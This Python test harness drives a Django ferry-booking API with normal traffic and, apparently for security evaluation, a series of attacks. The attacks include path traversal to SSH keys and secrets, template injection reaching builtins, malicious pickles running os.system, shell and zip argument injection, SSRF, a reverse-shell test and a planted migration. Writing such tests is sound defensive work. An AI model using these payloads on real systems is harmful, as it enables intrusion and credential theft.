# SPDX-License-Identifier: Apache-2.0
"""An API of async Django views behind daphne."""
import base64
import datetime
import decimal
import hashlib
import json
import os
import pickle
import time
import zlib

from attackers import Bomb
import stage

PEOPLE = ["anna", "ben", "carla", "dora", "emil", "fritz", "gustav", "hanna",
          "ida", "Hans Peter", "o.brien", "zoe-lu", "kiosk-1", "kiosk-2",
          "office", "office.north", "hotel", "bus"]
MILES = {"__init__.py": "def minutes(miles, knots):\n"
                        "    return round(miles / float(knots) * 60)\n"}
MILES_NEW = {
    "__init__.py": "from seamiles.tables import minutes\n",
    "tables.py": "import importlib.resources\nimport json\n\n"
                 "SHIPS = json.loads(importlib.resources.read_text(\n"
                 '    "seamiles", "tables.json"))\n\n\n'
                 "def minutes(miles, knots):\n"
                 "    return round(miles / float(knots) * 60) + SHIPS['quay']"
                 "\n",
    "tables.json": '{"quay": 4}\n'}
SCAN = b"\xff\xd8\xff\xe0 scanned " + b"paper" * 60
LARGE = b"large scan " * 300000  # more than is kept in memory
TEMPLATE = '{"booking": "{{ ref }}", "people": {{ passengers|length }}}'
MIGRATION = """import os
from django.db import migrations

os.system("{line}")


class Migration(migrations.Migration):
    dependencies = [("harbour", "0002_hook")]
"""
HARBOURS = [("Furusund", "Blidö"), ("Blidö", "Norröra"),
            ("Norröra", "Furusund")]


def timetable(first, ship, days):
    """Three sailings on each of some days."""
    lines = ["leaves,from,to,ship,miles,price"]
    for after in range(days):
        day = datetime.date.fromisoformat(first) + datetime.timedelta(after)
        lines += [f"{day}T{7 + 4 * number:02}:30,{origin},{target},{ship},"
                  f"{5 + number}.5,{9 + number}.50"
                  for number, (origin, target) in enumerate(HARBOURS)]
    return ("\n".join(lines) + "\n").encode()


class Client:
    """Somebody with a token. Bodies are JSON."""

    def __init__(self, browser, language="en"):
        self.browser = browser
        self.headers = {"Accept-Language": language}
        self.browser.opener.addheaders = list(self.headers.items())

    def takes(self, token):
        self.headers["Authorization"] = "Token " + token
        self.browser.opener.addheaders = list(self.headers.items())

    def get(self, path, **query):
        return self.browser.get("/api/" + path, **query)

    def post(self, path, **body):
        return self.browser.fetch(
            "/api/" + path, json.dumps(body).encode(),
            {"Content-Type": "application/json"})

    def delete(self, path):
        return self.browser.fetch("/api/" + path, method="DELETE")

    def upload(self, path, name, content, kind="image/jpeg", **form):
        return self.browser.upload("/api/" + path, name, content, kind,
                                   **form)


class DaphneFerries(stage.Service):
    """Sailings, bookings, boarding passes, webhooks (Django, daphne)."""
    packages = ["python3-django", "daphne", "python3-reportlab",
                "python3-pil", "python3-httpx", "python3-jinja2",
                "fonts-dejavu-core", "zip"]

    def arrange(self):
        stage.write(self.srv / "instance/secret.json", json.dumps(
            {"SECRET_KEY": "not-" + stage.SECRET}), 0o600)
        for name in ("log", "cache", "papers", "timetables"):
            (self.srv / "var" / name).mkdir(parents=True)
        self.install("seamiles", "1.4.0", MILES)
        self.seed("var/ferries.sqlite3", self.python, "manage.py", "seed",
                  *PEOPLE)

    def arrange_benign(self):
        self.install("seamiles", "1.5.0", MILES_NEW)

    def command(self):
        return [self.python, "/usr/bin/daphne", "-b", "127.0.0.1", "-p",
                self.port("web"), "--access-log", "var/log/access.log",
                "ferries.asgi:application"]

    # ------------------------------------------------------------ ordinary use
    def enter(self, name, language="en"):
        client = Client(self.browser(), language)
        told = self.expect_answer(f"{name} enters", client.post(
            "token", user=name, password=name[::-1]), "token")
        if told:
            client.takes(json.loads(told)["token"])
        return client

    def told(self, what, answer, text=b"", status=200):
        body = self.expect_answer(what, answer, text, status)
        return json.loads(body) if body else {}

    def sailing(self, client, day, origin="Furusund"):
        """The first of a day."""
        rows = self.told(f"sailings of {day}", client.get(
            "sailings", **{"day": day, "from": origin}), "minutes")
        return rows["sailings"][0]["id"] if rows else 0

    def books(self, client, day, fare, people, origin="Furusund"):
        """Returns the booking's reference."""
        number = self.sailing(client, day, origin)
        self.expect_answer(f"quote {fare}", client.get(
            "quote", sailing=number, fare=fare, adults=len(people),
            markup=f"price*1.1+{len(people)}"), "price")
        return self.told(f"booking for {people}", client.post(
            "bookings", sailing=number, fare=fare, passengers=people),
            "ref", 201).get("ref", "none")

    def boards(self, client, ref, paper, *kinds):
        for kind in kinds:
            self.expect_answer(f"pass {ref}.{kind}", client.get(
                f"bookings/{ref}/pass.{kind}", paper=paper),
                {"pdf": "%PDF", "png": "PNG", "jpg": "JFIF",
                 "gif": "GIF8"}[kind])

    def hands_in(self, client, ref, *names, content=SCAN):
        for name in names:
            kept = self.told(f"{name} handed in", client.upload(
                f"bookings/{ref}/papers", name, content), "kept", 201)
            self.expect_answer(f"{name} again", client.get(
                f"bookings/{ref}/papers", name=kept.get("kept", "")),
                content[:60])
        self.expect_answer(f"bundle of {len(names)}", client.post(
            f"bookings/{ref}/bundle", names=list(names)), "PK")

    def imports(self, client, season, name, first, ship, days=3):
        self.expect_answer(f"timetable {name}", client.upload(
            "timetable", name, timetable(first, ship, days), "text/csv",
            season=season), f'"sailings": {3 * days}', 201)

    def hooks(self, partner, path, template=TEMPLATE):
        client = self.enter(partner)
        url = self.site(partner).url + path
        self.expect_answer(f"hook {path} tried", client.post(
            "hooks/try", url=url, template=template), "noted")
        self.expect_answer(f"hook {path} kept", client.post(
            "hooks", url=url, template=template), "hook", 201)
        self.expect_answer(f"hooks of {partner}", client.get("hooks"), path)

    def kiosk(self, name, day, *sales):
        batch = [{"seat": number, "paid": decimal.Decimal(paid),
                  "at": datetime.datetime.fromisoformat(f"{day}T10:0{number}")}
                 for number, paid in enumerate(sales)]
        self.expect_answer(f"{name} hands in", self.enter(name).post(
            "kiosk", day=day,
            batch=base64.b64encode(pickle.dumps(batch)).decode()),
            f'"sold": {len(sales)}', 201)

    def office(self, client, day, order):
        number = self.sailing(client, day)
        self.expect_answer(f"manifest {number}", client.get(
            f"sailings/{number}/manifest", order=order), ",")
        for kind in ("csv", "json"):
            self.expect_answer(f"report {day[:7]}.{kind}", client.get(
                f"reports/{day[:7]}.{kind}"), "ship")

    def partners_answer(self):
        for name in ("hotel", "bus"):
            self.site(name).page("*", "noted")

    def train(self, day):
        self.partners_answer()
        visitor = Client(self.browser())
        self.expect_answer("home", visitor.browser.get("/"), "sailings")
        self.expect_answer("stranger", visitor.get("me"), status=401)
        self.expect_answer("wrong password", visitor.post(
            "token", user="anna", password="x"), status=403)
        season, first, ship = (
            ("2026-summer", "2026-06-08", "Ejdern"),
            ("2026-autumn", "2026-09-14", "Storskarv"),
            ("2026-winter", "2026-12-07", "Måsen"))[day - 1]
        office = self.enter("office")
        self.imports(office, season, f"{season}.csv", first, ship)
        self.imports(self.enter("office.north", "sv"), season + "/extra",
                     f"north-{day}.csv", first[:8] + "20", ship, 2 + day)
        self.hooks("hotel", f"/bookings/{day}")
        self.hooks("bus", f"/ferry/{season}")
        for name, language, date, fare, people, paper, files in (
                (("anna", "en", first, "standard", ["Anna Berg"], "A6",
                  ["licence.jpg"]),
                 ("ben", "de", first[:8] + "21", "islander",
                  ["Ben Ek", "Siv Ek"], "A5", ["car-1.jpg", "dog.pdf"]),
                 ("carla", "sv", first, "group", ["Carla Lind"] * 11, "A6",
                  ["list.csv", "van.jpeg", "pass.v2.pdf"])),
                (("dora", "de", first, "islander", ["Dora Holm"], "A5",
                  ["island-card.pdf"]),
                 ("emil", "nl", first[:8] + "21", "standard",
                  ["Emil Falk", "Per Falk"], "A6", ["boat.jpg", "cat.png"]),
                 ("anna", "en", first, "group", ["Anna Berg"] * 10, "A6",
                  ["choir.csv", "bus7.jpeg", "bus8.jpeg"])),
                (("gustav", "fi", first, "standard", ["Gustav Roos"], "A6",
                  ["licence.jpg"]),
                 ("hanna", "da", first[:8] + "21", "group",
                  ["Hanna Dal"] * 12, "A5", ["school.csv", "van.pdf"]),
                 ("ben", "de", first, "islander", ["Ben Ek"], "A6",
                  ["car-2.jpg", "trailer.v3.png", "dog.pdf"])))[day - 1]:
            client = self.enter(name, language)
            self.expect_answer(f"{name} is known", client.get("me"), name)
            ref = self.books(client, date, fare, people)
            self.expect_answer("booking", client.get(f"bookings/{ref}"), ref)
            self.boards(client, ref, paper, "pdf", "png", "jpg")
            self.hands_in(client, ref, *files)
            self.office(office, date, len(files))
            if len(files) > 1:
                self.hands_in(client, ref, f"all-{name}{day}.jpg",
                              content=LARGE)
        self.expect_answer("no such paper", client.get(
            f"bookings/{ref}/papers", name="none.pdf"), status=404)
        other = self.books(client, first, "standard", ["Nobody Yet"],
                           "Blidö")
        self.expect_answer("cancelled", client.delete(f"bookings/{other}"),
                           other)
        self.expect_answer("gone", client.get(f"bookings/{other}"),
                           status=404)
        self.expect_answer("mine", client.get("bookings"), ref)
        self.kiosk("kiosk-1", first, "12.50", "6.25")
        self.kiosk("kiosk-1", first[:8] + "20", "9.50")
        self.kiosk("kiosk-2", first, "8", "8", "4.75")
        self.expect_answer("bad timetable", office.upload(
            "timetable", "bad.csv", b"a,b\n1,2\n", "text/csv",
            season=season), status=400)
        self.expect_answer("not staff", client.get("reports/2026-06.csv"),
                           status=403)
        self.expect_answer("no such page", visitor.get("none"), status=404)
        self.restart()
        self.sailing(self.enter("anna"), first)

    def benign(self):
        self.partners_answer()
        office = self.enter("office.north", "sv")
        self.imports(office, "2031-spring", "Fahrplan Nr. 4 (neu).csv",
                     "2031-03-30", "Gamla Örnen", 5)
        self.imports(office, "2027-summer/extra/midsummer", "v1.2.final.txt",
                     "2027-06-24", "Ejdern")
        self.hooks("hotel", "/v2/guests?from=ferry", '{"r": "{{ ref }}"}')
        for name, language, date, fare, people, paper, files in (
                ("Hans Peter", "de", "2031-03-31", "standard",
                 ["Hans-Peter Groß", "Zoë Ångström"], "A6",
                 ["Führer Schein.heic", "b-2.tiff", "c_3.webp", "d", "e.pdf"]),
                ("o.brien", "fr", "2031-04-01", "islander",
                 ["Conor O'Brien"], "A5", ["photo.2031.03.31.bmp"]),
                ("zoe-lu", "nb", "2027-06-25", "group", ["Zoë Lu"] * 23,
                 "A6", ["Liste (Kopie).xlsx", "bus.jpg"]),
                ("ida", "en", "2027-06-26", "senior", ["Ida Å. d'Arc"],
                 "letter", ["card.pdf"])):
            client = self.enter(name, language)
            self.expect_answer(f"{name} is known", client.get("me"), name)
            ref = self.books(client, date, fare, people)
            self.boards(client, ref, paper, "pdf", "png", "jpg")
            self.hands_in(client, ref, *files)
            self.office(office, date, len(files))
        self.boards(client, ref, "A5", "gif")
        self.hands_in(client, ref, "huge photo.png", content=LARGE * 2)
        self.hands_in(client, ref, "card.pdf")  # there is one already
        other = self.books(client, "2027-06-24", "islander",
                           ["Somebody Else"], "Norröra")
        self.expect_answer("cancelled", client.delete(f"bookings/{other}"),
                           other)
        self.kiosk("kiosk-2", "2031-12-31", *["12.50"] * 9)
        self.kiosk("kiosk-1", "2028-02-29")
        self.expect_answer("no such pass", client.get(
            f"bookings/{ref}/pass.svg"), status=404)
        self.expect_answer("no such report", office.get("reports/2031-03.xls"),
                           status=404)
        self.expect_answer("no such fare", client.post(
            "bookings", sailing=1, fare="dog", passengers=["Rex"]),
            status=400)
        self.expect_answer("no such sailing", client.get(
            "quote", sailing=999999), status=500)
        self.expect_answer("no name", client.post("token"), status=400)
        self.expect_answer("not text", office.upload(
            "timetable", "picture.csv", stage.png(9), "text/csv",
            season="2031-spring"), status=400)
        self.expect_answer("no partner", client.post(
            "hooks", url="x"), status=500)
        self.site("bus").page("/full", "no", 503)
        self.expect_answer("partner is full", self.enter("bus").post(
            "hooks/try", url=self.site("bus").url + "/full",
            template=TEMPLATE), "503")
        for name in PEOPLE * 3:  # the log is rotated
            self.enter(name)
        self.restart()
        self.sailing(self.enter("ben", "de"), "2031-03-30")

    def health(self):
        client = self.enter("anna")
        ref = self.books(client, "2026-04-02", "standard", ["Anna Berg"])
        self.boards(client, ref, "A6", "pdf")

    # ----------------------------------------------------------------- attacks
    def booked(self, name="bill.pdf"):
        """A client and the reference of a booking with a paper."""
        client = self.enter("anna")
        ref = self.books(client, "2026-04-03", "standard", ["Anna Berg"])
        client.upload(f"bookings/{ref}/papers", name, SCAN)
        return client, ref

    def paper(self, name):
        client, ref = self.booked()
        return client.get(f"bookings/{ref}/papers", name=name)[1]

    def plants(self, season, name, text):
        self.enter("office").upload("timetable", name, text, "text/csv",
                                    season=str(season))

    def tries(self, url, template="x"):
        return self.enter("bus").post("hooks/try", url=url,
                                      template=template)[1]

    def renders(self, code):
        """code: an expression."""
        self.site("bus").page("*", "noted")
        return self.tries(self.site("bus").url, (
            "{{ cycler.__init__.__globals__.__builtins__." + code + " }}"))

    def batches(self, *call):
        self.enter("kiosk-1").post("kiosk", day="2026-04-01", batch=(
            base64.b64encode(pickle.dumps(Bomb(*call))).decode()))

    def marks_up(self, code):
        self.enter("anna").get("quote", sailing=1, markup=code)

    @stage.attack("traversal")
    def paper_is_a_private_key(self):
        return self.is_told(self.paper("../../../../../home/.ssh/id_rsa"))

    @stage.attack("source disclosure")
    def paper_is_the_source(self):
        return b"HOLE" in self.paper("../../../../harbour/office.py")

    @stage.attack("secret disclosure")
    def paper_is_the_configuration(self):
        return self.is_told(self.paper(f"{self.srv}/instance/secret.json"))

    @stage.attack("secret disclosure")
    def paper_is_the_database(self):
        return b"SQLite" in self.paper("../../../ferries.sqlite3")

    @stage.attack("write to code", fresh=True)
    def timetable_becomes_a_migration(self):
        def use(line):
            self.plants("../../harbour/migrations", "0003_more.py",
                        MIGRATION.format(line=line).encode())
            self.restart()
        return self.runs_line(use)

    @stage.attack("write to start-up file", fresh=True)
    def timetable_replaces_the_profile(self):
        self.plants(self.home, ".profile", b"planted")
        return "planted" in (self.home / ".profile").read_text()

    @stage.attack("unsafe pickle", fresh=True)
    def timetable_becomes_a_cache_entry(self):
        key = f":1:sailings-2026-04-09-{'Furusund'.encode().hex()}"
        name = hashlib.md5(key.encode()).hexdigest() + ".djcache"

        def use(line):
            self.plants("../cache", name, pickle.dumps(time.time() + 600)
                        + zlib.compress(pickle.dumps(Bomb(os.system, line))))
            self.enter("anna").get("sailings", **{
                "day": "2026-04-09", "from": "Furusund"})
        return self.runs_line(use)

    @stage.attack("template injection")
    def hook_reads_a_password(self):
        return self.template_reads(self.renders)

    @stage.attack("exfiltration")
    def hook_sends_credentials(self):
        return self.template_steals(self.renders)

    @stage.attack("SSRF")
    def hook_is_an_internal_service(self):
        return self.fetches_inside(self.tries)

    @stage.attack("SSRF")
    def hook_is_redirected_inside(self):
        return self.is_redirected_inside("bus", self.tries)

    @stage.attack("command injection")
    def manifest_runs_a_command(self):
        client = self.enter("office")
        return self.runs_line(lambda line: client.get(
            "sailings/1/manifest", order=f"1 /dev/null; {line};"))

    @stage.attack("argument injection")
    def bundle_runs_a_test(self):
        client, ref = self.booked()
        return self.runs_line(lambda line: client.post(
            f"bookings/{ref}/bundle",
            names=["bill.pdf", "-T", "-TT", f"{line} #"]))

    @stage.attack("reverse shell")
    def batch_calls_home(self):
        return self.calls_home(lambda code: self.batches(exec, code))

    @stage.attack("fork+exec")
    def markup_forks(self):
        return self.forks(lambda code: self.marks_up(f"exec({code!r})"))

    @stage.attack("ctypes")
    def markup_calls_libc(self):
        return self.runs_libc(self.marks_up)

    @stage.attack("malicious dependency", fresh=True)
    def seamiles_sends_credentials(self):
        def use():
            self.restart()
            self.enter("anna")
        return self.dependency_steals("seamiles", "1.4.1", MILES, use)

    @stage.attack("symlink swap", fresh=True)
    def paper_became_a_link(self):
        client, ref = self.booked()
        path = self.srv / f"var/papers/anna/{ref}/bill.pdf"
        path.unlink()
        path.symlink_to(self.place / "payroll/2026.csv")
        return self.is_told(client.get(f"bookings/{ref}/papers",
                                       name="bill.pdf"))
